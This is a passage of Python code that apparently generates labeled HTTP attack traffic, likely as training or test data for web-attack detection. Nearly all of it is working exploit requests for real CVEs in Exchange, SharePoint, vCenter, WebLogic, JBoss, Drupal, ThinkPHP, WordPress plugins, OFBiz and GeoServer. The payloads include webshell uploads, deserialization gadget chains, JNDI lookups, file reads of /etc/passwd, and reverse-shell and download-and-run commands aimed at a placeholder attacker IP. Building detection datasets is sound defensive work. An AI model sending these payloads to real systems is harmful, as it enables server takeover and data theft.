    o.add("lfi", "tomcat-semicolon", "GET", th(rng, "spring"), "/app/..;/manager/html", atk(rng, [("Authorization", "Basic dG9tY2F0OnMzY3JldA==")]))
    # WordPress plugin LFI
    o.add("lfi", "wp-duplicator-cve-2020-11738", "GET", th(rng, "wordpress"),
          "/wp-admin/admin-ajax.php?action=duplicator_download&file=..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2F..%2Fetc%2Fpasswd", atk(rng))
    o.add("lfi", "wp-revslider", "GET", th(rng, "wordpress"),
          "/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", atk(rng))
    o.add("lfi", "wp-mail-masta", "GET", th(rng, "wordpress"),
          "/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd", atk(rng))
    # Solr remote streaming file read
    o.add("lfi", "solr-stream-url", "POST", th(rng, "solr"), "/solr/%s/debug/dump?param=ContentStreams" % rng.choice(["core1", "products", "collection1"]),
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "stream.url=file:///etc/passwd")
    # ColdFusion CVE-2023-26360
    o.add("lfi", "coldfusion-cve-2023-26360", "POST", th(rng, "misc"),
          "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/iedit.cfc?method=wizardHash&_cfclient=true&returnFormat=wddx",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "_variables=" + Q('{"_metadata":{"classname":"\\\\..\\\\lib\\\\password.properties"},"_variables":[]}'))
    # ActiveMQ Jolokia (CVE-2022-41678) file read via DiagnosticCommand
    o.add("java", "activemq-cve-2022-41678", "POST", "activemq.example.com:8161", "/api/jolokia/",
          atk(rng, [("Content-Type", "application/json"), ("Origin", "http://localhost"), ("Authorization", "Basic YWRtaW46YWRtaW4=")]),
          jdump({"type": "EXEC", "mbean": "com.sun.management:type=DiagnosticCommand", "operation": "compilerDirectivesAdd(java.lang.String)", "arguments": ["/etc/passwd"]}))
    # ActiveMQ CVE-2016-3088 fileserver PUT + MOVE
    o.add("rce", "activemq-cve-2016-3088", "PUT", "activemq.example.com:8161", "/fileserver/%s.txt" % alnum(rng, 6),
          atk(rng, [("Content-Type", "text/plain")]),
          '<%@ page import="java.io.*"%><% Process p=Runtime.getRuntime().exec(request.getParameter("cmd")); InputStream in=p.getInputStream(); int c; while((c=in.read())!=-1){out.print((char)c);} %>')
    o.add("lfi", "activemq-cve-2016-3088", "MOVE", "activemq.example.com:8161", "/fileserver/shell.txt",
          atk(rng, [("Destination", "file:///opt/activemq/webapps/api/s.jsp")]))


# ---- Exchange / SharePoint / VMware ---------------------------------------

def a_microsoft_vmware(o):
    rng = R("msvmw")
    # ProxyLogon CVE-2021-26855
    o.add("ssrf", "exchange-proxylogon", "POST", th(rng, "exchange"), "/ecp/%s.js" % alnum(rng, 1).lower(),
          atk(rng, [("Cookie", "X-BEResource=localhost/EWS/Exchange.asmx?a=~1942062522;"), ("Content-Type", "text/xml")]),
          '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><m:GetFolder xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages"><m:FolderIds><t:DistinguishedFolderId Id="inbox" xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types"><t:Mailbox><t:EmailAddress>administrator@example.com</t:EmailAddress></t:Mailbox></t:DistinguishedFolderId></m:FolderIds></m:GetFolder></soap:Body></soap:Envelope>')
    canary = hexs(rng, 32) + "." + hexs(rng, 8)
    o.add("ssrf", "exchange-proxylogon", "POST", th(rng, "exchange"), "/ecp/%s.js" % alnum(rng, 4).lower(),
          atk(rng, [("Cookie", "X-BEResource=Administrator@EXCH01:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=%s&a=~1942062522; ASP.NET_SessionId=%s; msExchEcpCanary=%s" % (canary, uuid(rng), canary)),
                    ("msExchLogonMailbox", "S-1-5-20"), ("Content-Type", "application/json; charset=utf-8")]),
          jdump({"identity": {"__type": "Identity:ECP", "DisplayName": "OAB (Default Web Site)", "RawIdentity": uuid(rng)},
                 "properties": {"Parameters": {"__type": "JsonDictionaryOfanyType:#Microsoft.Exchange.Management.ControlPanel",
                                               "ExternalUrl": "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"exec_code\"],\"unsafe\");}</script>"}}}))
    # ProxyShell CVE-2021-34473
    o.add("ssrf", "exchange-proxyshell", "GET", th(rng, "exchange"),
          "/autodiscover/autodiscover.json?@evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp", atk(rng))
    o.add("ssrf", "exchange-proxyshell", "POST", th(rng, "exchange"),
          "/autodiscover/autodiscover.json?@foo.com/Powershell?X-Rps-CAT=VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBhhZG1pbmlzdHJhdG9yQGV4YW1wbGUuY29tVSxTLTEtNS0yMS0xMjM0NTY3ODkwLTEyMzQ1Njc4OTAtMTIzNDU2Nzg5MC01MDBHAQAAAAcAAAAMUy0xLTUtMzItNTQ0RQAAAAA%3D&Email=autodiscover/autodiscover.json%3F@foo.com",
          atk(rng, [("Content-Type", "application/soap+xml;charset=UTF-8")]), "")
    # ProxyNotShell CVE-2022-41040 / OWASSRF CVE-2022-41080
    o.add("ssrf", "exchange-proxynotshell", "GET", th(rng, "exchange"),
          "/autodiscover/autodiscover.json?a@foo.var/owa/&Email=autodiscover/autodiscover.json?a@foo.var&Protocol=XYZ&FooProtocol=Powershell",
          atk(rng, [("Authorization", "Basic " + b64("EXAMPLE\\jdoe:Spring2022!"))]))
    o.add("ssrf", "exchange-owassrf", "POST", th(rng, "exchange"),
          "/owa/mastermailbox%40outlook.com/powershell",
          atk(rng, [("Authorization", "Basic " + b64("EXAMPLE\\jdoe:Winter2022!")), ("Content-Type", "application/soap+xml;charset=UTF-8")]), "")
    # SharePoint ToolShell CVE-2025-53770 and DataSet deserialization CVE-2020-1147
    dwp = ('<%@ Register Tagprefix="Scorecard" Namespace="Microsoft.PerformancePoint.Scorecards" Assembly="Microsoft.PerformancePoint.Scorecards.Client, Version=16.0.0.0, Culture=neutral, PublicKeyToken=71e9bce111e9429c" %>'
           '<%@ Register Tagprefix="asp" Namespace="System.Web.UI" Assembly="System.Web.Extensions, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35" %>'
           '<asp:UpdateProgress ID="UpdateProgress1" DisplayAfter="10" runat="server" AssociatedUpdatePanelID="upTest"><ProgressTemplate><div><Scorecard:ExcelDataSet CompressedDataTable="H4sIAAAAAAAEAO1dW3PbNhb+K5x' + alnum(rng, 120) + 'AA=" DataTable-CaseSensitive="false" runat="server"/></div></ProgressTemplate></asp:UpdateProgress>')
    o.add("generic", "sharepoint-cve-2025-53770", "POST", th(rng, "sharepoint"), "/_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx",
          atk(rng, [("Referer", "/_layouts/SignOut.aspx"), ("Content-Type", "application/x-www-form-urlencoded")]),
          "MSOTlPn_Uri=" + Q("http://%s/_controltemplates/15/AclEditor.ascx" % th(rng, "sharepoint")) + "&MSOTlPn_DWP=" + Q(dwp))
    o.add("generic", "sharepoint-cve-2020-1147", "POST", th(rng, "sharepoint"), "/_layouts/15/quicklinks.aspx?Mode=Suggestion",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "__viewstate=&__SUGGESTIONSCACHE__=" + Q('<DataSet><xs:schema xmlns="" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:msdata="urn:schemas-microsoft-com:xml-msdata" id="somedataset"><xs:element name="somedataset" msdata:IsDataSet="true" msdata:UseCurrentLocale="true"><xs:complexType><xs:choice minOccurs="0" maxOccurs="unbounded"><xs:element name="Exp_x0020_Table"><xs:complexType><xs:sequence><xs:element name="pwn" msdata:DataType="System.Data.Services.Internal.ExpandedWrapper`2[[System.Windows.Markup.XamlReader, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35],[System.Windows.Data.ObjectDataProvider, PresentationFramework, Version=4.0.0.0, Culture=neutral, PublicKeyToken=31bf3856ad364e35]], System.Data.Services, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089" type="xs:anyType" minOccurs="0"/></xs:sequence></xs:complexType></xs:element></xs:choice></xs:complexType></xs:element></xs:schema><diffgr:diffgram xmlns:msdata="urn:schemas-microsoft-com:xml-msdata" xmlns:diffgr="urn:schemas-microsoft-com:xml-diffgram-v1"><somedataset><Exp_x0020_Table diffgr:id="Exp Table1" msdata:rowOrder="0" diffgr:hasChanges="inserted"><pwn xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xmlns:xsd="http://www.w3.org/2001/XMLSchema"><ExpandedElement/><ProjectedProperty0><MethodName>Parse</MethodName><MethodParameters><anyType xsi:type="xsd:string">&lt;ResourceDictionary xmlns="http://schemas.microsoft.com/winfx/2006/xaml/presentation" xmlns:x="http://schemas.microsoft.com/winfx/2006/xaml" xmlns:System="clr-namespace:System;assembly=mscorlib" xmlns:Diag="clr-namespace:System.Diagnostics;assembly=system"&gt;&lt;ObjectDataProvider x:Key="LaunchCmd" ObjectType="{x:Type Diag:Process}" MethodName="Start"&gt;&lt;ObjectDataProvider.MethodParameters&gt;&lt;System:String&gt;cmd&lt;/System:String&gt;&lt;System:String&gt;/c calc&lt;/System:String&gt;&lt;/ObjectDataProvider.MethodParameters&gt;&lt;/ObjectDataProvider&gt;&lt;/ResourceDictionary&gt;</anyType></MethodParameters><ObjectInstance xsi:type="XamlReader"></ObjectInstance></ProjectedProperty0></pwn></Exp_x0020_Table></somedataset></diffgr:diffgram></DataSet>'))
    # vCenter CVE-2021-21972 uploadova (tar with traversal)
    jsp = '<%@page import="java.util.*,java.io.*"%><% if (request.getParameter("cmd") != null) { Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); } %>'
    name = "../../../../../home/vsphere-ui/vcli/vsphere-ui.jsp"
    tar = name + "\x00" * (100 - len(name)) + "0000644\x000000000\x000000000\x00" + "%011o" % len(jsp) + "\x00" + "14133455210\x00" + "012345\x00 0" + "\x00" * 355 + jsp + "\x00" * 32
    ct, b = multipart(rng, [("uploadFile", "%s.tar" % alnum(rng, 6), "application/octet-stream", tar)], style="python")
    o.add("lfi", "vcenter-cve-2021-21972", "POST", th(rng, "vmware"), "/ui/vropspluginui/rest/services/uploadova",
          atk(rng, [("Content-Type", ct)]), b)
    # vCenter CVE-2021-21985 vsan JNDI
    for ep, arg in [("&vsanProviderUtils_setVmodlHelper/setArguments", [["ldap://%s:1389/Basic/Command/Base64/aWQ=" % evil_ip(rng)]])]:
        o.add("java", "vcenter-cve-2021-21985", "POST", th(rng, "vmware"), "/ui/h5-vsan/rest/proxy/service/" + ep,
              atk(rng, [("Content-Type", "application/json")]), jdump({"methodInput": arg}))
    # vCenter CVE-2021-22005 analytics file write
    o.add("rce", "vcenter-cve-2021-22005", "POST", th(rng, "vmware"),
          "/analytics/telemetry/ph/api/hyper/send?_c=&_i=/../../../../../../etc/cron.d/%s" % alnum(rng, 6),
          atk(rng, [("Content-Type", "application/json"), ("X-Deployment-Secret", "abc")]),
          "* * * * * root nc -e /bin/sh %s 4444\n" % evil_ip(rng))
    # Workspace ONE Access CVE-2022-22954 FreeMarker
    o.add("ssti", "vmware-cve-2022-22954", "GET", "access.example.com",
          "/catalog-portal/ui/oauth/verify?error=&deviceUdid=" + Q('${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}', safe="$"), atk(rng))
    o.add("ssti", "vmware-cve-2022-22954", "GET", "access.example.com",
          "/catalog-portal/ui/oauth/verify?code=&deviceType=&deviceUdid=%24%7b%22%66%72%65%65%6d%61%72%6b%65%72%2e%74%65%6d%70%6c%61%74%65%2e%75%74%69%6c%69%74%79%2e%45%78%65%63%75%74%65%22%3f%6e%65%77%28%29%28%22%69%64%22%29%7d", atk(rng))


# ---- PHP applications ------------------------------------------------------

def a_php(o):
    rng = R("php")
    # ThinkPHP 5.x
    for uri in ["/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
                "/index.php?s=index/think%5Capp/invokefunction&function=call_user_func_array&vars%5B0%5D=file_put_contents&vars%5B1%5D%5B%5D=shell.php&vars%5B1%5D%5B%5D=%3C%3Fphp%20%40eval(%24_POST%5Bx%5D)%3B%3F%3E",
                "/index.php?s=index/\\think\\Request/input&filter=system&data=wget%20http://" + evil_ip(rng) + "/t.sh%20-O-%7Csh"]:
        o.add("php", "thinkphp-rce", "GET", th(rng, "php"), uri, atk(rng))
    o.add("php", "thinkphp-rce", "POST", th(rng, "php"), "/index.php?s=captcha",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id")
    o.add("php", "thinkphp-cve-2022-47945", "GET", th(rng, "php"),
          "/index.php?+config-create+/&lang=../../../../../../../../usr/local/lib/php/pearcmd&/<?=phpinfo()?>+shell.php", atk(rng))
    # PHPUnit CVE-2017-9841
    for path, body in [("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", '<?php echo(md5("phpunit"));?>'),
                       ("/lib/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "<?php system('id'); ?>")]:
        o.add("php", "phpunit-cve-2017-9841", rng.choice(["POST", "GET"]), th(rng, "php"), path,
              atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), body)
    # Drupalgeddon2 CVE-2018-7600
    o.add("php", "drupalgeddon2", "POST", th(rng, "drupal"),
          "/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id")
    o.add("php", "drupalgeddon2", "POST", th(rng, "drupal"),
          "/user/register?element_parents=timezone/timezone/%23value&ajax_form=1&_wrapper_format=drupal_ajax",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "form_id=user_register_form&_drupal_ajax=1&timezone%5Ba%5D%5B%23lazy_builder%5D%5B%5D=passthru&timezone%5Ba%5D%5B%23lazy_builder%5D%5B%5D%5B%5D=" + QP("echo PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg== | base64 -d | tee sites/default/files/x.php"))
    o.add("php", "drupalgeddon2", "POST", th(rng, "drupal"),
          "/?q=user/password&name%5b%23post_render%5d%5b%5d=passthru&name%5b%23type%5d=markup&name%5b%23markup%5d=cat+/etc/passwd",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "form_id=user_pass&_triggering_element_name=name&_triggering_element_value=&opz=E-mail+new+Password")
    o.add("php", "drupalgeddon3", "POST", th(rng, "drupal"),
          "/node/1/delete?destination=node?q[%2523][]=passthru%26q[%2523type]=markup%26q[%2523markup]=whoami",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", "SESS%s=%s" % (hexs(rng, 32), alnum(rng, 43)))]),
          "form_id=node_delete_confirm&_triggering_element_name=form_id&form_token=" + alnum(rng, 43))
    o.add("php", "drupal-cve-2019-6340", "POST", th(rng, "drupal"), "/node?_format=hal_json",
          atk(rng, [("Content-Type", "application/hal+json")]),
          jdump({"link": [{"value": "link", "options": "O:24:\"GuzzleHttp\\Psr7\\FnStream\":2:{s:33:\"\u0000GuzzleHttp\\Psr7\\FnStream\u0000methods\";a:1:{s:5:\"close\";a:2:{i:0;O:23:\"GuzzleHttp\\HandlerStack\":3:{s:32:\"\u0000GuzzleHttp\\HandlerStack\u0000handler\";s:2:\"id\";s:30:\"\u0000GuzzleHttp\\HandlerStack\u0000stack\";a:1:{i:0;a:1:{i:0;s:6:\"system\";}}s:31:\"\u0000GuzzleHttp\\HandlerStack\u0000cached\";b:0;}i:1;s:7:\"resolve\";}}s:9:\"_fn_close\";a:2:{i:0;r:4;i:1;s:7:\"resolve\";}}"}],
                 "_links": {"type": {"href": "http://www.example.org/rest/type/shortcut/default"}}}).replace("\\u0000", "\\u0000"))
    # Laravel Ignition CVE-2021-3129
    for vf in ["php://filter/write=convert.quoted-printable-decode|convert.iconv.utf-16le.utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"]:
        o.add("php", "ignition-cve-2021-3129", "POST", th(rng, "php"), "/_ignition/execute-solution",
              atk(rng, [("Content-Type", "application/json")]),
              jdump({"solution": "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution",
                     "parameters": {"variableName": "username", "viewFile": vf}}))
    # PHP-CGI CVE-2012-1823 / CVE-2024-4577
    o.add("php", "php-cgi-cve-2024-4577", "POST", th(rng, "php"),
          "/php-cgi/php-cgi.exe?%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "<?php echo md5('CVE-2024-4577'); ?>")
    # vBulletin CVE-2019-16759 / CVE-2020-17496
    o.add("php", "vbulletin-cve-2019-16759", "POST", th(rng, "php"), "/index.php?routestring=ajax/render/widget_php",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]), "widgetConfig%5Bcode%5D=echo+shell_exec%28%27id%27%29%3B+exit%3B")
    o.add("php", "vbulletin-cve-2020-17496", "POST", th(rng, "php"), "/ajax/render/widget_tabbedcontainer_tab_panel",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "subWidgets[0][template]=widget_php&subWidgets[0][config][code]=phpinfo%28%29%3B")
    # Craft CMS CVE-2023-41892
    o.add("php", "craft-cve-2023-41892", "POST", th(rng, "php"), "/index.php",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          form([("action", "conditions/render"), ("test[userCondition]", "craft\\elements\\conditions\\users\\UserCondition"),
                ("config", '{"name":"test[userCondition]","as xyz":{"class":"\\\\GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[{"close":null}],"_fn_close":"phpinfo"}}')]))
    # GLPI CVE-2022-35914 htmLawed
    o.add("php", "glpi-cve-2022-35914", "POST", th(rng, "php"), "/vendor/htmlawed/htmlawed/htmLawedTest.php",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded"), ("Cookie", "sid=foo")]),
          "token=%s&text=id&hhook=exec&sid=foo" % hexs(rng, 32))
    # Joomla CVE-2015-8562 object injection in User-Agent
    o.add("php", "joomla-cve-2015-8562", "GET", th(rng, "php"), "/",
          atk(rng, ua='}__test|O:21:"JDatabaseDriverMysqli":3:{s:2:"fc";O:17:"JSimplepieFactory":0:{}s:21:"\\0\\0\\0disconnectHandlers";a:1:{i:0;a:2:{i:0;O:9:"SimplePie":5:{s:8:"sanitize";O:20:"JDatabaseDriverMysql":0:{}s:8:"feed_url";s:37:"phpinfo();JFactory::getConfig();exit;";s:19:"cache_name_function";s:6:"assert";s:5:"cache";b:1;s:11:"cache_class";O:20:"JDatabaseDriverMysql":0:{}}i:1;s:4:"init";}}s:13:"\\0\\0\\0connection";b:1;}\u00f0\u00fd\u00fd\u00fd'))
    # WordPress: File Manager upload, Bricks builder code element
    ct, b = multipart(rng, [("reqid", None, None, "17457a1fe6959"), ("cmd", None, None, "upload"), ("target", None, None, "l1_Lw"),
                            ("mtime[]", None, None, "1576045135"),
                            ("upload[]", "%s.php" % alnum(rng, 6).lower(), "application/octet-stream", "<?php system($_GET['cmd']); ?>")])
    o.add("php", "wp-file-manager-cve-2020-25213", "POST", th(rng, "wordpress"),
          "/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php", atk(rng, [("Content-Type", ct)]), b)
    o.add("php", "wp-bricks-cve-2024-25600", "POST", th(rng, "wordpress"), "/wp-json/bricks/v1/render_element",
          atk(rng, [("Content-Type", "application/json")]),
          jdump({"postId": str(rng.randint(1, 99)), "nonce": hexs(rng, 10),
                 "element": {"name": "carousel", "settings": {"type": "posts", "query": {"useQueryEditor": True,
                             "queryEditor": "throw new Exception(`id`);", "objectType": "post"}}}}))
    ct, b = multipart(rng, [("action", None, None, "upload-attachment"), ("_wpnonce", None, None, hexs(rng, 10)),
                            ("async-upload", "image.php.jpg", "image/jpeg", "\u00ff\u00d8\u00ff\u00e0\x00\x10JFIF\x00\x01<?php if(isset($_REQUEST['x'])){ eval(base64_decode($_REQUEST['x'])); } __halt_compiler(); ?>")])
    o.add("php", "wp-upload-polyglot", "POST", th(rng, "wordpress"), "/wp-admin/async-upload.php",
          atk(rng, [("Content-Type", ct), ("Cookie", "wordpress_logged_in_%s=subscriber%%7C%s" % (hexs(rng, 32), hexs(rng, 40)))]), b)


# ---- more Java middleware ---------------------------------------------------

def a_middleware(o):
    rng = R("middleware")
    # WebLogic
    xmldec = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
              '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.4.0" class="java.beans.XMLDecoder">'
              '<void class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void>'
              '<void index="1"><string>-c</string></void><void index="2"><string>CMD</string></void></array><void method="start"/></void>'
              '</java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')
    o.add("java", "weblogic-cve-2017-10271", "POST", th(rng, "weblogic"), "/wls-wsat/CoordinatorPortType",
          atk(rng, [("Content-Type", "text/xml;charset=UTF-8"), ("SOAPAction", "")]), xmldec.replace("CMD", "bash -i &gt;&amp; /dev/tcp/%s/4444 0&gt;&amp;1" % evil_ip(rng)))
    o.add("java", "weblogic-cve-2017-3506", "POST", th(rng, "weblogic"), "/wls-wsat/CoordinatorPortType11",
          atk(rng, [("Content-Type", "text/xml")]),
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.io.PrintWriter"><string>servers/AdminServer/tmp/_WL_internal/bea_wls_internal/9j4dqk/war/test.jsp</string><void method="println"><string><![CDATA[<% out.print(new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream()).useDelimiter("\\\\A").next()); %>]]></string></void><void method="close"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>')
    o.add("java", "weblogic-cve-2019-2725", "POST", th(rng, "weblogic"), "/_async/AsyncResponseService",
          atk(rng, [("Content-Type", "text/xml"), ("SOAPAction", "")]),
          '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.w3.org/2005/08/addressing" xmlns:asy="http://www.bea.com/async/AsyncResponseService"><soapenv:Header><wsa:Action>xx</wsa:Action><wsa:RelatesTo>xx</wsa:RelatesTo><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><class><string>com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext</string><void><string>http://%s/poc.xml</string></void></class></java></work:WorkContext></soapenv:Header><soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>' % evil_ip(rng))
    o.add("java", "weblogic-cve-2020-14882", "GET", th(rng, "weblogic"),
          "/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27id%27);%22)",
          atk(rng))
    o.add("ssrf", "weblogic-cve-2014-4210", "GET", th(rng, "weblogic"),
          "/uddiexplorer/SearchPublicRegistries.jsp?rdoSearch=name&txtSearchname=sdf&txtSearchkey=&txtSearchfor=&selfor=Business+location&btnSubmit=Search&operator=http://169.254.169.254/latest/meta-data/",
          atk(rng))
    ct, b = multipart(rng, [("ks_name", None, None, "x"), ("ks_edit_mode", None, None, "false"), ("ks_password_front", None, None, "x"),
                            ("ks_password", None, None, "x"), ("ks_password_changed", None, None, "true"),
                            ("ks_filename", "shell.jsp", "application/octet-stream", '<%@page import="java.util.*,java.io.*"%><%if(request.getParameter("cmd")!=null){Process p=Runtime.getRuntime().exec(request.getParameter("cmd"));}%>')])
    o.add("java", "weblogic-cve-2018-2894", "POST", th(rng, "weblogic"), "/ws_utc/resources/setting/keystore?timestamp=%d" % rng.randint(1600000000000, 1700000000000),
          atk(rng, [("Content-Type", ct)]), b)
    # JBoss
    ser = ("\u00ac\u00ed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\u00ca\u00f5\x0f\x15\u00cb~\u00a5\x02\x00\x02L\x00\x0cmemberValuest\x00\x0fLjava/util/Map;"
           "L\x00\x04typet\x00\x11Ljava/lang/Class;xps}\x00\x00\x00\x01\x00\rjava.util.Mapxr\x00\x17java.lang.reflect.Proxy"
           "sr\x00*org.apache.commons.collections.map.LazyMapn\u00e5\u0094\u0082\u009ey\x10\u0094\x03\x00\x01L\x00\x07factoryt\x00,Lorg/apache/commons/collections/Transformer;"
           "sr\x00:org.apache.commons.collections.functors.ChainedTransformer0\u00c7\u0097\u00ec(z\u0097\x04\x02\x00\x01[\x00\riTransformerst\x00-[Lorg/apache/commons/collections/Transformer;"
           "sr\x00;org.apache.commons.collections.functors.ConstantTransformerXv\u0090\x11A\x02\u00b1\u0094\x02\x00\x01L\x00\tiConstantt\x00\x12Ljava/lang/Object;vr\x00\x11java.lang.Runtime"
           "sr\x00:org.apache.commons.collections.functors.InvokerTransformer\u0087\u00e8\u00ffk{|\u00ce8\x02\x00\x03[\x00\x05iArgst\x00\x13[Ljava/lang/Object;t\x00\ngetRuntime"
           "t\x00\x04exect\x00\x1bcurl http://%s/jb|sh" % evil_ip(rng))
    for p in ["/invoker/JMXInvokerServlet"]:
        o.add("java", "jboss-invoker-deser", "POST", th(rng, "weblogic"), p,
              atk(rng, [("Content-Type", "application/x-java-serialized-object; class=org.jboss.invocation.MarshalledValue")]), ser)
    o.add("rfi", "jboss-jmx-console", "GET", th(rng, "weblogic"),
          "/jmx-console/HtmlAdaptor?action=invokeOp&name=jboss.system:service=MainDeployer&methodIndex=17&arg0=http://%s/shell.war" % evil_ip(rng), atk(rng))
    o.add("java", "jboss-jmx-console", "GET", th(rng, "weblogic"),
          "/jmx-console/HtmlAdaptor?action=invokeOpByName&name=jboss.admin:service=DeploymentFileRepository&methodName=store&argType=java.lang.String&arg0=shell.war&argType=java.lang.String&arg1=shell&argType=java.lang.String&arg2=.jsp&argType=java.lang.String&arg3="
          + Q('<% Runtime.getRuntime().exec(request.getParameter("c")); %>') + "&argType=boolean&arg4=True", atk(rng))
    # JSF ViewState
    vs = base64.b64encode(ser.encode("latin-1", "replace")).decode()
    o.add("java", "jsf-viewstate", "POST", th(rng, "misc"), "/faces/login.xhtml",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "loginForm=loginForm&loginForm%3Ausername=a&loginForm%3Apassword=b&javax.faces.ViewState=" + Q(vs))
    # Fastjson / Jackson
    for body in ['{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://%s:1389/Exploit","autoCommit":true}' % evil_ip(rng),
                 '{"\\u0040\\u0074\\u0079\\u0070\\u0065":"\\u0063\\u006f\\u006d\\u002e\\u0073\\u0075\\u006e\\u002e\\u0072\\u006f\\u0077\\u0073\\u0065\\u0074\\u002e\\u004a\\u0064\\u0062\\u0063\\u0052\\u006f\\u0077\\u0053\\u0065\\u0074\\u0049\\u006d\\u0070\\u006c","dataSourceName":"ldap://%s/a","autoCommit":true}' % oast(rng),
                 '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://%s:1389/obj","autoCommit":true}]' % evil_ip(rng)]:
        o.add("java", "json-deser", "POST", th(rng, "spring"), rng.choice(["/api/user/update", "/api/v1/orders", "/login", "/api/settings"]),
              atk(rng, [("Content-Type", "application/json")]), body)
    # OFBiz
    o.add("java", "ofbiz-cve-2023-49070", "POST", "erp.example.com:8443", "/webtools/control/xmlrpc;/?USERNAME=&PASSWORD=s&requirePasswordChange=Y",
          atk(rng, [("Content-Type", "application/xml")]),
          '<?xml version="1.0"?><methodCall><methodName>ProjectDiscovery</methodName><params><param><value><struct><member><name>test</name><value><serializable xmlns="http://ws.apache.org/xmlrpc/namespaces/extensions">%s</serializable></value></member></struct></value></param></params></methodCall>' % vs)
    o.add("java", "ofbiz-cve-2023-51467", "POST", "erp.example.com:8443", "/webtools/control/ProgramExport/?USERNAME=&PASSWORD=&requirePasswordChange=Y",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "groovyProgram=" + QP("throw new Exception('id'.execute().text);"))
    grv = "throw new Exception('curl http://%s/o.sh'.execute().text);" % oast(rng)
    o.add("java", "ofbiz-cve-2024-38856", "POST", "erp.example.com:8443", "/webtools/control/main/ProgramExport",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "groovyProgram=" + "".join("\\u%04x" % ord(c) for c in grv))
    o.add("rfi", "ofbiz-cve-2024-45195", "POST", "erp.example.com:8443", "/webtools/control/forgotPassword/viewdatafile",
          atk(rng, [("Content-Type", "application/x-www-form-urlencoded")]),
          "DATAFILE_LOCATION=http://%s/rceschema.xml&DATAFILE_SAVE=./applications/accounting/webapp/accounting/index.jsp&DATAFILE_IS_URL=true&DEFINITION_LOCATION=http://%s/rceschema.xml&DEFINITION_IS_URL=true&DEFINITION_NAME=rce" % ((evil_ip(rng),) * 2))
    # GeoServer CVE-2024-36401
    o.add("java", "geoserver-cve-2024-36401", "GET", "maps.example.com",
          "/geoserver/wfs?service=WFS&version=2.0.0&request=GetPropertyValue&typeNames=sf:archsites&valueReference=exec(java.lang.Runtime.getRuntime(),'touch%20/tmp/success1')", atk(rng))
    # Metabase CVE-2023-38646
